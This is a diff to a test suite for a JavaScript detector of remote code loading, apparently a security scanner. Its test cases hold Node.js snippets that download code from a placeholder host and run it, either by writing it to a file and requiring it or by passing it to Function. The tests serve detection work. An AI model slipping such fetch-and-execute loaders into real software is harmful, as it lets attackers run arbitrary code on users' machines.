@@ -191,6 +191,14 @@ testCheck(remoteCode, {
     },
     {
       ...code(
+        'a download written beside the file, then required by a path built from __dirname',
+        "const fs = require('fs'); const path = require('path'); require('https').get('https://x.invalid/s2', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => { fs.writeFileSync(path.join(__dirname, 'stage2.js'), b); require(path.join(__dirname, 'stage2.js')); }); });",
+      ),
+      severity: 'medium',
+      message: /computed module path/,
+    },
+    {
+      ...code(
         'a download helper feeding Function',
         "const https = require('https'); function get(u) { return new Promise((ok) => https.get(u, ok)); } async function go() { new Function(await get('https://x.invalid'))(); }",
       ),
